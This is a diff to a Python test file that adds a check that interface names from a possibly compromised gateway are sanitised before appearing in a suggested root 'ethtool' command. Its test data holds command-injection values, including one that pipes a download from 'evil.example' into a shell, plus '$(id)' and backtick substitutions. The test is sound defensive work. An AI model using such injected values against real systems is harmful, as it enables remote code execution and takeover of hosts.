@@ -1,6 +1,6 @@
 """What visitor, doctor and guard found, from the delivery to alarms, metrics and the API, with a real database."""
 
-from datetime import timedelta
+from datetime import UTC, datetime, timedelta
 from typing import Any
 
 import pytest
@@ -9,6 +9,7 @@ from msgspec.structs import replace
 from hotspot import wire
 from hotspot.hub import watch
 from hotspot.hub.access import Role
+from hotspot.hub.api.looks import looks as in_api
 from hotspot.hub.hub import Hub
 from hotspot.hub.ingest import Ingest
 from hotspot.hub.settings import Settings
@@ -119,6 +120,18 @@ async def test_what_a_gateway_says_is_not_believed(hall: Hall) -> None:
     assert [secret for secret in ("02:00", "198.18", "\\u0000") if secret in text] == []
     (kept,) = await hall.kept()
     assert kept.look.findings[0].values == {"v": "ß" * 120, "port": "lan3"}
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [("enp3s0.12", "enp3s0.12")]
+    + [(bad, "?") for bad in ("x; curl evil.example | sh", "$(id)", "`id`", "-a", "a b", "a\nb", "a'b", "", "x>y", "w" * 65, "é")],
+)
+def test_a_command_holds_no_more_than_words(value: str, shown: str) -> None:
+    """What a gateway that was taken over writes cannot become a command that somebody types there as root."""
+    finding = Finding(kind="offload-lro", severity=Severity.WARNING, values={"interface": value})
+    kept = looks.Kept(at=datetime(2026, 11, 23, tzinfo=UTC), look=Look(by=By.DOCTOR, at=1.0, findings=(finding,)))
+    assert [one.findings[0].command for one in in_api([kept])] == [f"ethtool -K {shown} lro off"]
 
 
 async def test_in_the_api_and_in_the_metrics(api: Api, hub: Hub) -> None:
